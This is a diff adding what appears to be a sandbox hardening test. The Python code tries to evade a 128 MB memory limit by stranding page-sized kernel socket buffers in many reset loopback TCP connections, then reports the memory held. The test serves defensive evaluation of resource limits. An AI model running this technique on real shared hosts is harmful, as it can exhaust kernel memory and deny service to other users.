@@ -1,0 +1,51 @@
+# attack: take memory in bytes left in connections that were reset, which no list of the kernel has any more
+# class: resources
+# layer: memory_limit
+# limits: memory=128, disk=32
+# raised: memory=2048, disk=32
+# fresh: yes
+# expect: held or out_of_memory
+# timeout: 30
+
+PAGE, MOST, rest, sink = 1 << 15, 600 << 20, bytes((1 << 15) - 1), bytearray(1 << 15)
+def pair():
+    listener = socket.create_server(("127.0.0.1", 0))
+    a = socket.create_connection(listener.getsockname())
+    b, _ = listener.accept()
+    a.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
+    return a, b
+filler, drain = pair()
+def use_up():
+    """Sends the rest of a fragment's page, and takes it out again."""
+    filler.send(rest)
+    left = len(rest)
+    while left:
+        left -= drain.recv_into(sink, left)
+def fill(a):
+    """A byte that waits in each of many pages; how much that is."""
+    a.setblocking(False)
+    pages = 0
+    try:
+        for pages in range(1500):
+            a.send(b"x")
+            use_up()
+    except BlockingIOError:
+        pass
+    return pages * PAGE
+taken, held_open, end = 0, [], time.monotonic() + 12
+while taken < 2 * MOST and time.monotonic() < end:
+    a, b = pair()
+    taken += fill(a)
+    a.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))
+    a.close()
+    held_open.append(b)
+time.sleep(0.5)
+kept = 0
+for b in held_open:
+    b.getsockopt(socket.SOL_SOCKET, socket.SO_ERROR)
+    b.setblocking(False)
+    try:
+        kept += len(b.recv(1 << 16)) * PAGE
+    except OSError:
+        pass
+verdict(kept >= 200 << 20, kept >> 20, "MiB of", taken >> 20, "in", len(held_open), "connections")
